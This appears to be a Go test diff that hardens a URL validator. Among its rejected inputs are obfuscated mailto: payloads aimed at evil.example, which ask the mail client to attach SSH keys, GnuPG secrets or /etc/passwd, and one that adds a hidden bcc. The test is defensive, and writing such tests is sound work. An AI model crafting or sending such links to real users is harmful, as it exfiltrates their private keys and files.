@@ -219,9 +219,46 @@ func TestOpenableURL(t *testing.T) {
 		"https://a.example/\n-rf":   false,
 		"vscode://open?file=/x":     false,
 		"https://example.com/a b c": false,
+		// Blanks and controls other than space, tab, CR and LF.
+		"https://a.example/\x1b]0;x\a":                             false,
+		"https://a.example/\u0085x":                                false,
+		"https://a.example/\u00a0x":                                false,
+		"https://a.example/\vx":                                    false,
+		"mailto:a@example.com?subject=Hi%20there&body=Tom%26Jerry": true,
+		"mailto:a@example.com?CC=b@example.com;subject=x":          true,
+		"mailto:?to=a@example.com&in-reply-to=%3Cm@x%3E":           true,
 	} {
-		if OpenableURL(u) != want {
-			t.Errorf("OpenableURL(%q) != %v", u, want)
+		if got := NotOpenable(u) == ""; got != want {
+			t.Errorf("NotOpenable(%q) = %q: opened %v, want %v", u, NotOpenable(u), got, want)
+		}
+	}
+}
+
+// TestMailtoLinksNamingFilesAreNotOpened: a sender's mailto: link that
+// names a local file for the mail client to attach (attach=, attachment=,
+// attachments=, however spelt or hidden) was handed to the browser or
+// opener, and so to the mail client, which attached the file to a
+// message the user then sent to the sender ("Mailto: Me Your Secrets",
+// 2020); such a link is copied, never opened, and says why.
+func TestMailtoLinksNamingFilesAreNotOpened(t *testing.T) {
+	for _, u := range []string{
+		"mailto:x@evil.example?attach=/home/me/.ssh/id_rsa",
+		"mailto:x@evil.example?subject=hi&attachment=~/.gnupg/secring.gpg",
+		"mailto:x@evil.example?body=hi;attachments=/etc/passwd",
+		"MAILTO:x@evil.example?ATTACH=/etc/passwd",
+		"mailto:x@evil.example?%61ttach=/etc/passwd",
+		"mailto:x@evil.example?%2561ttach=/etc/passwd",
+		"mailto:x@evil.example%3Fattach=/etc/passwd",
+		"mailto:x@evil.example?subject%3Dx%26attach=/etc/passwd",
+		"mailto:x@evil.example?bcc=spy@evil.example",
+		"mailto:x@evil.example?x-mailer=y&subject=z",
+		"mailto:x@evil.example?%zz=1",
+	} {
+		why := NotOpenable(u)
+		if why == "" {
+			t.Errorf("%q is opened", u)
+		} else if !strings.Contains(why, "mailto:") {
+			t.Errorf("%q: %q does not say why", u, why)
 		}
 	}
 }
